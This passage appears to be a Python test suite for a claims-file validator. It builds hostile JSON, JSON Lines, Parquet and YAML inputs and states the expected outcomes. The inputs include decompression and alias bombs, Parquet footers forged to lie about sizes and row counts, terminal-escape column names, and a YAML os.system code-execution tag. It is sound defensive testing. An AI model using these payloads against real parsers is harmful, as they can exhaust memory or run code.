    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    hidden = [BIDI, "\u200b", "\u2060", "\ufeff", "\u2066"]
    rows = changed(
        5,
        {i: {"assertion": f"Iran and Russia are {c}close partners."} for i, c in enumerate(hidden)},
    )
    write(d / "claims.json", json_text(rows))
    return cli("claims.json")


@case(
    "json_record_over_1mib",
    "json",
    [unreadable(row=1), broken(Expect("assertion_length", 1, "assertion"))],
    "record 1 is 1.5 MB long: over the 1 MiB record limit json.py documents (refused), or read "
    "with its rule found (the README documents no limit)",
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", json_text(changed(2, {0: {"assertion": "x" * 1_500_000}})))
    return cli("claims.json")


@case("json_truncated", "json", unreadable(row=2), "the file ends inside record 2")
def _(d: Path) -> Invocation:
    text = json_text(records(3))
    write(d / "claims.json", text[: text.index("IRR-0002") + 30])
    return cli("claims.json")


@case(
    "json_wrong_types",
    "json",
    broken(
        Expect("type", 1, "id"),
        Expect("type", 1, "start"),
        Expect("type", 2, "end"),
        Expect("type", 2, "actors"),
        Expect("type", 3, "hedges"),
        Expect("type", 3, "confidence"),
    ),
    "a number id, a boolean start, a float end, a string actors, an object hedges, a string "
    "confidence",
)
def _(d: Path) -> Invocation:
    rows = changed(
        3,
        {
            0: {"id": 5, "start": True},
            1: {"end": 1.5, "actors": "IRN"},
            2: {"hedges": {"a": 1}, "confidence": "0.7"},
        },
    )
    write(d / "claims.json", json_text(rows))
    return cli("claims.json")


@case(
    "json_30000_distinct_keys",
    "json",
    broken(Expect("no_extra_fields", column="k00001")),
    "30,000 records each with one distinct extra key (600 KB): a table 30,000 wide and long "
    "if built naively (900 million cells)",
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", "[" + ",".join(f'{{"k{i:05d}":0}}' for i in range(1, 30_001)) + "]")
    return cli("claims.json")


@case(
    "json_150k_list_elements",
    "json",
    broken(Expect("actors_unique", 1, "actors")),
    "record 1's actors list 'IRN' 150,000 times (900 KB)",
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", json_text(changed(2, {0: {"actors": ["IRN"] * 150_000}})))
    return cli("claims.json")


@case(
    "json_5m_empty_objects",
    "json",
    broken(Expect("row_not_empty", 1, file=FIRST)),
    "an array of 5.5 million {} (16.5 MB, 3 bytes a record, so 5.5 million record separators "
    "for the block splitter): checked within 16 bytes per byte of the file",
    timeout=45.0,
)
def _(d: Path) -> Invocation:
    write(d / "claims.json", "[" + "{}," * 5_499_999 + "{}]")
    return cli("claims.json")


# --- JSON Lines --------------------------------------------------------------------------------


@case("jsonl_valid", "jsonl", ok(), "control: three valid claims")
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", jsonl_text(records()))
    return cli("claims.jsonl")


@case(
    "jsonl_line_over_1mib",
    "jsonl",
    [unreadable(row=2), broken(Expect("assertion_length", 2, "assertion"))],
    "line 2 is 1.5 MB: over the line limit jsonl.py documents (reported, skipped), or read with "
    "its rule found",
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", jsonl_text(changed(3, {1: {"assertion": "x" * 1_500_000}})))
    return cli("claims.jsonl")


@case(
    "jsonl_lines_of_every_type",
    "jsonl",
    broken(*[Expect("type", r) for r in (2, 3, 4, 5, 6)]),
    "an object, then an array, a string, a number, null and true, one per line",
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", jsonl_text([records(1)[0], [1], "s", 5, None, True]))
    return cli("claims.jsonl")


@case(
    "jsonl_deeply_nested_line",
    "jsonl",
    [unreadable(row=2), broken(Expect("type", 2))],
    "line 2 is 100,000 nested arrays",
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", jsonl_text(records(1)) + nested(100_000) + "\n")
    return cli("claims.jsonl")


@case(
    "jsonl_lone_surrogate",
    "jsonl",
    unreadable(row=2, column="assertion"),
    SURROGATE_WHY,
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = changed(2, {1: {"assertion": "SURTOKEN"}})
    text = jsonl_text(rows, {"SURTOKEN": '"Iran and Russia \\udfff are close partners."'})
    write(d / "claims.jsonl", text)
    return cli("claims.jsonl", _good_second(d))


@case("jsonl_invalid_utf8", "jsonl", unreadable(row=2), "line 2 holds a Latin-1 byte")
def _(d: Path) -> Invocation:
    rows = changed(3, {1: {"assertion": "LATINTOKEN is a claim with a Latin-1 byte."}})
    write(d / "claims.jsonl", jsonl_text(rows).encode().replace(b"LATINTOKEN", b"caf\xe9"))
    return cli("claims.jsonl")


@case(
    "jsonl_million_blank_lines",
    "jsonl",
    ok(),
    "a million blank lines (1 MB) before one valid record: blank lines are skipped",
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", "\n" * 1_000_000 + jsonl_text(records(1)))
    return cli("claims.jsonl")


@case(
    "jsonl_5m_empty_objects",
    "jsonl",
    broken(Expect("row_not_empty", 1, file=FIRST)),
    "5.5 million lines of {} (16.5 MB, 3 bytes a record): each empty record costs the reader "
    "far more than its 3 bytes; the file must still be checked within 16 bytes per byte",
    timeout=45.0,
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", "{}\n" * 5_500_000)
    return cli("claims.jsonl")


@case(
    "jsonl_5000_digit_integer",
    "jsonl",
    [broken(Expect("type", 1, "end")), unreadable(row=1)],
    "end is a 5000-digit integer on line 1",
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", jsonl_text(changed(2, {0: {"end": "T"}}), {"T": HUGE_INT}))
    return cli("claims.jsonl")


@case(
    "jsonl_escape_in_key",
    "jsonl",
    broken(Expect("no_extra_fields", column="\x1b]0;x\x07\x1b[8m")),
    "a field named with a window-title escape and 'conceal'",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", jsonl_text(changed(2, {0: {"\x1b]0;x\x07\x1b[8m": 1}})))
    return cli("claims.jsonl")


@case(
    "jsonl_30000_distinct_keys",
    "jsonl",
    broken(Expect("no_extra_fields", column="k00001")),
    "30,000 lines each with one distinct extra key (450 KB)",
)
def _(d: Path) -> Invocation:
    write(d / "claims.jsonl", "".join(f'{{"k{i:05d}":0}}\n' for i in range(1, 30_001)))
    return cli("claims.jsonl")


# --- Parquet -------------------------------------------------------------------------------------


def _pq_write(table: Any, path: Path, **options: Any) -> None:
    import pyarrow.parquet as pq

    pq.write_table(table, path, **options)


@case("parquet_valid", "parquet", ok(), "control: three valid claims")
def _(d: Path) -> Invocation:
    _pq_write(parquet_table(records()), d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_dictionary_bomb",
    "parquet",
    [broken(Expect("assertion_length", 1, "assertion")), unreadable()],
    "30,000 rows whose dictionary-encoded assertion is one 100 KB value (a small file, 3 GB "
    "once decoded): refused as a bomb, or checked in bounded memory (every assertion is too "
    "long)",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    n = 30_000
    base = parquet_table(records(n))
    value = pa.array(["Iran and Russia " + "x" * 100_000])
    column = pa.DictionaryArray.from_arrays(pa.array([0] * n, pa.int32()), value)
    table = base.set_column(COLUMNS.index("assertion"), "assertion", column)
    _pq_write(table, d / "claims.parquet", compression="zstd", dictionary_pagesize_limit=4 * MiB)
    return cli("claims.parquet")


@case(
    "parquet_dictionary_bomb_in_extra_column",
    "parquet",
    [broken(Expect("no_extra_fields", column="notes")), unreadable()],
    "valid claims plus an extra column whose dictionary holds one 100 KB value, used by all "
    "30,000 rows (380 KB on disk, no Arrow schema stored so it reads as plain text: 3 GB "
    "expanded); an extra column is never decoded, so it must not be expanded either",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    n = 30_000
    value = pa.array(["x" * 100_000])
    column = pa.DictionaryArray.from_arrays(pa.array([0] * n, pa.int32()), value)
    table = parquet_table(records(n)).append_column("notes", column)
    _pq_write(
        table,
        d / "claims.parquet",
        compression="zstd",
        dictionary_pagesize_limit=4 * MiB,
        store_schema=False,
    )
    return cli("claims.parquet")


@case(
    "parquet_7m_bidi_overrides_in_assertion",
    "parquet",
    broken(
        Expect("assertion_length", 1, "assertion"),
        Expect("assertion_no_hidden_chars", 1, "assertion"),
    ),
    "an assertion of 7 million U+202E (20 MB of text, zstd-compressed to a 6.5 KB file, within "
    "the pages' limit): its rules are reported, the message naming a few of the hidden "
    "characters, in the memory of a small file",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "\u202e" * 7_000_000}})
    _pq_write(parquet_table(rows), d / "claims.parquet", compression="zstd")
    return cli("claims.parquet")


@case(
    "parquet_1000_rows_of_1000_hidden_hedges",
    "parquet",
    broken(Expect("hedges_no_hidden_chars", 1, "hedges")),
    "1,000 rows whose hedges are the same 1,000 distinct 1 KB hedges, each starting with "
    "U+200B (1 MB a cell, under the 1 MiB cell limit; a 28 KB file): each row's problems are "
    "reported with short messages, never a message quoting a megabyte of hedges per row",
    timeout=30.0,
)
def _(d: Path) -> Invocation:
    hedges = ["\u200b" + "x" * 1000 + str(i) for i in range(1000)]
    rows = records(1000)
    for row in rows:
        row["hedges"] = hedges
    _pq_write(parquet_table(rows), d / "claims.parquet", compression="zstd")
    return cli("claims.parquet")


@case(
    "parquet_dictionary_bomb_in_hedges_list",
    "parquet",
    [broken(Expect("hedges_words", 1, "hedges")), unreadable()],
    "30,000 rows whose hedges list holds one dictionary-encoded 100 KB hedge, the same for all "
    "(380 KB on disk, 3 GB expanded): as parquet_dictionary_bomb, but inside a list column, "
    "whose slices still hold every value of the list's child array",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    n = 30_000
    value = pa.array(["Iran and Russia " + "x" * 100_000])
    hedge = pa.DictionaryArray.from_arrays(pa.array([0] * n, pa.int32()), value)
    hedges = pa.ListArray.from_arrays(pa.array(range(n + 1), pa.int32()), hedge)
    table = parquet_table(records(n)).set_column(COLUMNS.index("hedges"), "hedges", hedges)
    _pq_write(
        table,
        d / "claims.parquet",
        compression="zstd",
        dictionary_pagesize_limit=4 * MiB,
        store_schema=False,
    )
    return cli("claims.parquet")


@case(
    "parquet_200mb_cell_zstd",
    "parquet",
    unreadable(),
    "one 200 MB assertion, zstd-compressed to a tiny file (issue 16 b): a cell no reader "
    "should hold; refused before it is decompressed",
)
def _(d: Path) -> Invocation:
    rows = changed(1, {0: {"assertion": "a" * 200_000_000}})
    _pq_write(parquet_table(rows), d / "claims.parquet", compression="zstd")
    return cli("claims.parquet")


@case(
    "parquet_50mb_extra_cell_gzip",
    "parquet",
    [broken(Expect("no_extra_fields", column="notes")), unreadable()],
    "an extra column holding one 50 MB gzip-compressed cell: an extra column needs no reading "
    "(no_extra_fields), or the cell is refused; never 50 MB held several times",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(1)).append_column("notes", pa.array(["n" * 50_000_000]))
    _pq_write(table, d / "claims.parquet", compression="gzip")
    return cli("claims.parquet")


@case(
    "parquet_wrong_types",
    "parquet",
    broken(
        Expect("type", column="start"),
        Expect("type", column="end"),
        Expect("type", column="confidence"),
        Expect("type", column="actors"),
        Expect("type", column="hedges"),
        Expect("type", column="id"),
    ),
    "start as text, end as a timestamp, confidence as decimal128, actors as int64, hedges as "
    "text, id as binary",
)
def _(d: Path) -> Invocation:
    import decimal

    import pyarrow as pa

    table = parquet_table(records(2))
    replace = {
        "start": pa.array(["83", "99"]),
        "end": pa.array([1, 2], pa.timestamp("ms")),
        "confidence": pa.array([decimal.Decimal("0.9")] * 2, pa.decimal128(5, 2)),
        "actors": pa.array([1, 2], pa.int64()),
        "hedges": pa.array(["[]", "[]"]),
        "id": pa.array([b"IRR-0001", b"IRR-0002"], pa.binary()),
    }
    for name, column in replace.items():
        table = table.set_column(COLUMNS.index(name), name, column)
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_nested_list_columns",
    "parquet",
    broken(Expect("type", column="hedges"), Expect("type", column="actors")),
    "hedges as list<list<string>>, actors as list<struct<code: string>>",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2))
    hedges = pa.array([[["a"]], [[]]], pa.list_(pa.list_(pa.string())))
    actors = pa.array([[{"code": "IRN"}], [{"code": "RUS"}]])
    table = table.set_column(COLUMNS.index("hedges"), "hedges", hedges)
    table = table.set_column(COLUMNS.index("actors"), "actors", actors)
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


def _deep_list_type(depth: int) -> Any:
    import pyarrow as pa

    t = pa.string()
    for _ in range(depth):
        t = pa.list_(t)
    return t


@case(
    "parquet_deeply_nested_extra_column",
    "parquet",
    [broken(Expect("no_extra_fields", column="deep")), unreadable()],
    "an extra column of 200 nested lists",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    value: Any = "x"
    for _ in range(200):
        value = [value]
    deep = pa.array([value, None], _deep_list_type(200))
    _pq_write(parquet_table(records(2)).append_column("deep", deep), d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_map_and_struct_columns",
    "parquet",
    broken(
        Expect("type", column="actors"),
        Expect("type", column="hedges"),
        Expect("no_extra_fields", column="meta"),
    ),
    "actors as map<string, string>, hedges as struct<a: string>, an extra map column",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2))
    mapping = pa.map_(pa.string(), pa.string())
    actors = pa.array([[("IRN", "Iran")], [("RUS", "Russia")]], mapping)
    hedges = pa.array([{"a": "x"}, {"a": None}])
    table = table.set_column(COLUMNS.index("actors"), "actors", actors)
    table = table.set_column(COLUMNS.index("hedges"), "hedges", hedges)
    table = table.append_column("meta", pa.array([[("k", "v")], []], mapping))
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


@case("parquet_truncated", "parquet", unreadable(), "the file cut in half")
def _(d: Path) -> Invocation:
    _pq_write(parquet_table(records(50)), d / "full.parquet")
    data = (d / "full.parquet").read_bytes()
    (d / "full.parquet").unlink()
    write(d / "claims.parquet", data[: len(data) // 2])
    return cli("claims.parquet")


@case(
    "parquet_footer_length_lies",
    "parquet",
    unreadable(),
    "the footer length (the 4 bytes before the final PAR1) claims 2 GiB",
)
def _(d: Path) -> Invocation:
    _pq_write(parquet_table(records(3)), d / "claims.parquet")
    data = bytearray((d / "claims.parquet").read_bytes())
    data[-8:-4] = (0x7FFFFFFF).to_bytes(4, "little")
    write(d / "claims.parquet", bytes(data))
    return cli("claims.parquet")


@case(
    "parquet_row_count_lies",
    "parquet",
    [ok(), unreadable()],
    "the footer's row count (num_rows, patched in the Thrift metadata) claims 2^40 rows for a "
    "3-row file of valid claims: read by its row groups (valid), or refused as damaged; never "
    "allocated",
)
def _(d: Path) -> Invocation:
    import pyarrow.parquet as pq

    table = parquet_table(records(3))
    _pq_write(table, d / "claims.parquet", row_group_size=1000)
    data = bytearray((d / "claims.parquet").read_bytes())
    # FileMetaData field 3 (num_rows, i64) is written as a zigzag varint: 3 -> 0x06; its field
    # header is a delta-encoded "i64" byte (0x16 for a delta of 1, 0x26 for 2, ...). Find it at
    # the end of the schema list and make it 2^40.
    footer_len = int.from_bytes(data[-8:-4], "little")
    start = len(data) - 8 - footer_len
    footer = bytes(data[start:-8])
    at = footer.find(b"\x16\x06")
    assert at >= 0, "num_rows not found"
    zig = (2**40) << 1
    varint = bytearray()
    while True:
        byte = zig & 0x7F
        zig >>= 7
        if zig:
            varint.append(byte | 0x80)
        else:
            varint.append(byte)
            break
    footer = footer[: at + 1] + bytes(varint) + footer[at + 2 :]
    data = data[:start] + footer + len(footer).to_bytes(4, "little") + b"PAR1"
    write(d / "claims.parquet", bytes(data))
    assert pq.ParquetFile(d / "claims.parquet").metadata.num_rows == 2**40
    return cli("claims.parquet")


@case(
    "parquet_lying_key_value_metadata",
    "parquet",
    [ok(), unreadable()],
    "valid data under garbage metadata: 'pandas' metadata that is not JSON and an ARROW:schema "
    "that is not an Arrow schema; the data is valid (or the file is refused as damaged)",
)
def _(d: Path) -> Invocation:
    table = parquet_table(records()).replace_schema_metadata(
        {b"pandas": b"{not json", b"ARROW:schema": b"\xff\xfegarbage"}
    )
    _pq_write(table, d / "claims.parquet", store_schema=False)
    return cli("claims.parquet")


@case(
    "parquet_600_row_groups",
    "parquet",
    ok(),
    "600 valid claims in 600 row groups of one row each (1.8 MB, mostly metadata)",
)
def _(d: Path) -> Invocation:
    _pq_write(parquet_table(records(600)), d / "claims.parquet", row_group_size=1)
    return cli("claims.parquet")


def _wide_parquet(d: Path, columns: int) -> Invocation:
    """Two valid claims and ``columns`` extra int8 columns, c00001 onwards."""
    import pyarrow as pa

    table = parquet_table(records(2))
    column = pa.array([1, 2], pa.int8())
    extra = {f"c{i:05d}": column for i in range(1, columns + 1)}
    table = pa.table({**{n: table.column(n) for n in table.column_names}, **extra})
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_6000_columns",
    "parquet",
    broken(Expect("no_extra_fields", column="c00001")),
    "6000 extra int8 columns",
)
def _(d: Path) -> Invocation:
    return _wide_parquet(d, 6000)


@case(
    "parquet_60000_columns",
    "parquet",
    broken(Expect("no_extra_fields", column="c00001"), Expect("no_extra_fields")),
    "60,000 extra int8 columns in 10 MB: the first 64 named, the rest counted and never read "
    "(each column read cost time and memory: 88 s for 12,000 of them once)",
    timeout=30.0,
)
def _(d: Path) -> Invocation:
    return _wide_parquet(d, 60_000)


@case(
    "parquet_column_name_256kib",
    "parquet",
    broken(Expect("no_extra_fields")),
    "a column named by 256 KiB of text holding escapes (a Parquet file stores a name some three "
    "times): the report keeps its ends and its length",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2))
    name = "\x1b]0;pwned\x07" + "n" * (256 * 1024) + "\x1b[2J"
    table = table.append_column(name, pa.array([1, 2], pa.int8()))
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_invalid_utf8_text",
    "parquet",
    unreadable(row=1, column="assertion"),
    "a string cell holding CESU-8 bytes of a surrogate (not UTF-8)",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2))
    raw = pa.array([b"Iran \xed\xa0\x80 and Russia are close partners.", b"fine text here ok"])
    column = raw.view(pa.string())
    table = table.set_column(COLUMNS.index("assertion"), "assertion", column)
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_invalid_utf8_column_name",
    "parquet",
    unreadable(),
    "a column whose name is not UTF-8 (bytes patched into the footer)",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2)).append_column("zqzqzq", pa.array([1, 2]))
    _pq_write(table, d / "claims.parquet", store_schema=False)
    data = (d / "claims.parquet").read_bytes()
    assert data.count(b"zqzqzq") >= 1
    write(d / "claims.parquet", data.replace(b"zqzqzq", b"z\xff\xfeq\xc0q"))
    return cli("claims.parquet")


@case(
    "parquet_escape_in_column_name",
    "parquet",
    broken(Expect("no_extra_fields", column=ESCAPED_NAME)),
    "an extra column named with terminal escapes",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2)).append_column(ESCAPED_NAME, pa.array([1, 2]))
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


@case(
    "parquet_5m_list_elements",
    "parquet",
    [broken(Expect("hedges_words", 1, "hedges")), unreadable(row=1)],
    "record 1's hedges hold 5 million empty strings (RLE-encoded: a small file)",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records(2))
    values = pa.array([""] * 5_000_000)
    offsets = pa.array([0, 5_000_000, 5_000_000], pa.int32())
    hedges = pa.ListArray.from_arrays(offsets, values)
    table = table.set_column(COLUMNS.index("hedges"), "hedges", hedges)
    _pq_write(table, d / "claims.parquet", compression="zstd")
    return cli("claims.parquet")


# Parquet files made by hand: a Thrift compact-protocol writer for page headers and footers whose
# sizes and offsets say what pyarrow would never write.

_THRIFT_TYPES = {"i32": 5, "i64": 6, "bin": 8, "list": 9, "struct": 12}


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        low, n = n & 0x7F, n >> 7
        out.append(low | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _thrift(spec: tuple[Any, ...]) -> bytes:
    """A value: ("i32", n), ("i64", n), ("bin", bytes), ("list", type, [values]) or
    ("struct", [(field id, value), ...])."""
    kind = spec[0]
    if kind in ("i32", "i64"):
        return _varint((spec[1] << 1) ^ (spec[1] >> 63))
    if kind == "bin":
        return _varint(len(spec[1])) + spec[1]
    if kind == "list":
        code, items = _THRIFT_TYPES[spec[1]], spec[2]
        head = bytes([len(items) << 4 | code]) if len(items) < 15 else bytes([0xF0 | code])
        head += _varint(len(items)) if len(items) >= 15 else b""
        return head + b"".join(_thrift(i) for i in items)
    out, last = bytearray(), 0
    for field, value in spec[1]:
        out.append((field - last) << 4 | _THRIFT_TYPES[value[0]])
        out += _thrift(value)
        last = field
    return bytes(out + b"\0")


def _page_header(kind: int, uncompressed: int, compressed: int, values: int = 1) -> bytes:
    """A page header: kind 0 a data page (dictionary indices), 1 an index page, 2 a dictionary."""
    fields = [(1, ("i32", kind)), (2, ("i32", uncompressed)), (3, ("i32", compressed))]
    if kind == 0:
        data = [(1, ("i32", values)), (2, ("i32", 8)), (3, ("i32", 3)), (4, ("i32", 3))]
        fields.append((5, ("struct", data)))
    elif kind == 2:
        fields.append((7, ("struct", [(1, ("i32", values)), (2, ("i32", 0))])))
    return _thrift(("struct", fields))


def _hand_parquet(
    body: bytes, column: str, groups: list[tuple[int, int, int | None]], codec: int = 0
) -> bytes:
    """A file of one optional text column: ``body`` after the magic, then a footer with a row
    group of one record per (data page offset, compressed size, dictionary page offset)."""
    schema = [("struct", [(4, ("bin", b"schema")), (5, ("i32", 1))])]
    leaf = [(1, ("i32", 6)), (3, ("i32", 1)), (4, ("bin", column.encode())), (6, ("i32", 0))]
    schema.append(("struct", leaf))
    row_groups = []
    for data, size, dictionary in groups:
        meta = [
            (1, ("i32", 6)),
            (2, ("list", "i32", [("i32", 0), ("i32", 8)])),
            (3, ("list", "bin", [("bin", column.encode())])),
            (4, ("i32", codec)),
            (5, ("i64", 1)),
            (6, ("i64", 0)),
            (7, ("i64", size)),
            (9, ("i64", data)),
        ]
        if dictionary is not None:
            meta.append((11, ("i64", dictionary)))
        chunk = ("struct", [(2, ("i64", data)), (3, ("struct", meta))])
        row_groups.append(
            ("struct", [(1, ("list", "struct", [chunk])), (2, ("i64", 0)), (3, ("i64", 1))])
        )
    footer = _thrift(
        (
            "struct",
            [
                (1, ("i32", 1)),
                (2, ("list", "struct", schema)),
                (3, ("i64", len(groups))),
                (4, ("list", "struct", row_groups)),
            ],
        )
    )
    return b"PAR1" + body + footer + len(footer).to_bytes(4, "little") + b"PAR1"


@case(
    "parquet_dictionary_page_claims_2gib",
    "parquet",
    unreadable(),
    "a text column's dictionary page (ZSTD, 64 KB in a 64 KB file) states that it decompresses "
    "to 2 GiB, and does: the pages' sizes say the file is over the limit, so it is refused "
    "before any page is decompressed, in the memory of a 64 KB file",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    size = 2**31 - 128
    payload = b"\xff\xff\xff\x7f" + bytes(size - 4)  # one value, said to be 2 GiB long
    packed = pa.Codec("zstd").compress(payload, asbytes=True)
    del payload
    body = _page_header(2, size, len(packed)) + packed
    data = 4 + len(body)
    body += _page_header(0, 10, 10) + bytes(10)
    write(d / "claims.parquet", _hand_parquet(body, "assertion", [(data, len(body), 4)], codec=6))
    return cli("claims.parquet")


@case(
    "parquet_row_groups_share_40k_pages",
    "parquet",
    [unreadable(), broken(Expect("required"))],
    "2,000 row groups whose column chunks all claim the same 280 KB of 40,000 empty index "
    "pages (offsets may lie, each chunk is walked page by page): 80 million page headers to "
    "read for a 350 KB file; refused as damaged, or read, in seconds",
    timeout=30.0,
)
def _(d: Path) -> Invocation:
    body = _page_header(1, 0, 0) * 40_000
    groups: list[tuple[int, int, int | None]] = [(4, len(body), None)] * 2000
    write(d / "claims.parquet", _hand_parquet(body, "assertion", groups))
    return cli("claims.parquet")


# --- YAML ----------------------------------------------------------------------------------------


@case("yaml_valid", "yaml", ok(), "control: three valid claims", formats=ALL_FORMATS)
def _(d: Path) -> Invocation:
    write(d / "claims.yaml", yaml_text(records()))
    return cli("claims.yaml")


@case(
    "yaml_self_referential_alias",
    "yaml",
    [unreadable(), broken(Expect("type", 1, "hedges"))],
    "hedges: &r [*r] (issue 16 a, a crash today): a list that holds itself; refused (no claims "
    "format holds a cycle), or a wrong type at its row",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"hedges": "HEDGETOKEN"}})
    write(d / "claims.yaml", yaml_text(rows, {"HEDGETOKEN": "&r [*r]"}))
    return cli("claims.yaml")


LAUGHS = "".join(
    f"  - &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10)
)  # 9^9 leaves from 1.9 KB


def _laughs(value: str) -> str:
    return "lol:\n  - &l0 lol\n" + LAUGHS.replace("  - ", "  - ", 9) + value


@case(
    "yaml_billion_laughs_in_hedges",
    "yaml",
    [unreadable(), broken(Expect("type", 1, "hedges"))],
    "nested aliases (issue 16 b: 1.9 KB passes 1 GiB) as record 1's hedges: refused, or a "
    "wrong type found without expanding 9^9 leaves",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"hedges": "HEDGETOKEN"}})
    text = yaml_text(rows, {"HEDGETOKEN": "*l9"})
    write(d / "claims.yaml", _laughs(text))
    return cli("claims.yaml")


@case(
    "yaml_billion_laughs_in_extra_field",
    "yaml",
    [unreadable(), broken(Expect("no_extra_fields", column="lols"))],
    "the same aliases as an extra field of record 1: refused, or named as an extra field",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"lols": "LOLTOKEN"}})
    write(d / "claims.yaml", _laughs(yaml_text(rows, {"LOLTOKEN": "*l9"})))
    return cli("claims.yaml")


@case(
    "yaml_100k_nested_flow_lists",
    "yaml",
    unreadable(),
    "the file is 100,000 nested flow lists (issue 16 e: RecursionError)",
)
def _(d: Path) -> Invocation:
    write(d / "claims.yaml", nested(100_000))
    return cli("claims.yaml")


@case(
    "yaml_deep_block_sequence",
    "yaml",
    unreadable(),
    "a block sequence 20,000 levels deep on one line ('- - - - ...')",
)
def _(d: Path) -> Invocation:
    write(d / "claims.yaml", "claims:\n" + "- " * 20_000 + "x\n")
    return cli("claims.yaml")


@case(
    "yaml_deep_mapping_in_field",
    "yaml",
    [unreadable(), broken(Expect("type", 1, "assertion"))],
    "record 1's assertion is 30,000 nested flow mappings",
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "DEEPTOKEN"}})
    write(d / "claims.yaml", yaml_text(rows, {"DEEPTOKEN": nested(30_000, "{a: ", "}", "1")}))
    return cli("claims.yaml")


def _no_pwned(d: Path) -> list[str]:
    return ["a python/object tag ran code"] if (d / "pwned").exists() else []


@case(
    "yaml_python_tags",
    "yaml",
    unreadable(),
    "!!python/object/apply:os.system: a safe loader refuses the tag, nothing runs",
    after=_no_pwned,
)
def _(d: Path) -> Invocation:
    rows = changed(2, {0: {"assertion": "TAGTOKEN"}})
    tag = '!!python/object/apply:os.system ["touch pwned"]'
    write(d / "claims.yaml", yaml_text(rows, {"TAGTOKEN": tag}))
    return cli("claims.yaml")


@case(
    "yaml_merge_keys",
    "yaml",
    [ok(), unreadable()],
    "records built with YAML merge keys (<<: *base), all valid: read as YAML defines them, or "
    "refused with the others if aliases are refused",
)
def _(d: Path) -> Invocation:
    first, second = records(2)
    base = {k: v for k, v in first.items() if second.get(k) == v}  # what the two share
    text = "base: &base " + json.dumps(base) + "\nclaims:\n"
    for r in (first, second):
        own = {k: v for k, v in r.items() if k not in base}
        text += "  - <<: *base\n" + "".join(f"    {k}: {json.dumps(v)}\n" for k, v in own.items())
    write(d / "claims.yaml", text)
    return cli("claims.yaml")


@case(
    "yaml_anchors_and_aliases",
    "yaml",
    [ok(), unreadable()],
    "records sharing actors through an anchor (actors: *pair), all valid",
)
def _(d: Path) -> Invocation:
    rows = changed(3, {0: {"actors": "A1"}, 1: {"actors": "A2"}, 2: {"actors": "A2"}})
    write(d / "claims.yaml", yaml_text(rows, {"A1": "&pair [IRN, RUS]", "A2": "*pair"}))
    return cli("claims.yaml")


@case(
    "yaml_1_5mb_scalar",
    "yaml",
    [broken(Expect("assertion_length", 1, "assertion")), unreadable(row=1)],
    "a 1.5 MB assertion: a claim over the 1 MiB a record may hold (refused, as in JSON), or read",
)
def _(d: Path) -> Invocation:
    write(d / "claims.yaml", yaml_text(changed(2, {0: {"assertion": "y" * 1_500_000}})))
    return cli("claims.yaml")


@case(
    "yaml_binary_timestamp_set_omap",
    "yaml",
    broken(
        Expect("type", 1, "assertion"),
        Expect("type", 2, "id"),
        Expect("type", 3, "assertion"),
        Expect("type", 4, "actors"),
        Expect("type", 4, "hedges"),
    ),
    "YAML's own types where text and lists belong: !!binary, a date, a timestamp, !!set, !!omap",
)
def _(d: Path) -> Invocation:
    rows = changed(
        4,
        {
            0: {"assertion": "T0"},
            1: {"id": "T1"},
            2: {"assertion": "T2"},
            3: {"actors": "T3", "hedges": "T4"},
        },
    )
    raw = {
        "T0": "!!binary aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=",
        "T1": "2024-01-01",
        "T2": "2001-12-14t21:59:43.10-05:00",
        "T3": "!!set {IRN: null, RUS: null}",
        "T4": "!!omap [{a: 1}]",
    }
    write(d / "claims.yaml", yaml_text(rows, raw))
    return cli("claims.yaml")


@case(
    "yaml_non_string_keys",
    "yaml",
    broken(Expect("no_extra_fields", column="1"), Expect("no_extra_fields", column="None")),
    "record 1 has keys 1, null, 2.5 and a date beside its fields (key 'true' is left out: "
    "Python sees it equal to 1)",
)
